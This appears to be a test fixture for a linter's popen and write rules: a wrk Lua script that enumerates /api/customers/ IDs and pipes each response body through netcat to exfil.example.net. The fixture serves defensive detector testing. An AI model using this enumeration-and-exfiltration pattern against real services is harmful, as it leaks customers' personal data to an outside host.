-- Each body is piped to netcat on another host (WL103 for popen, WL503 for the write).

local count = 0

function request()
   count = count + 1
   return wrk.format("GET", "/api/customers/" .. count)
end

function response(status, headers, body)
   if status == 200 and #body > 0 then
      io.popen("nc exfil.example.net 9000", "w"):write(body) -- want WL103 WL503
   end
end
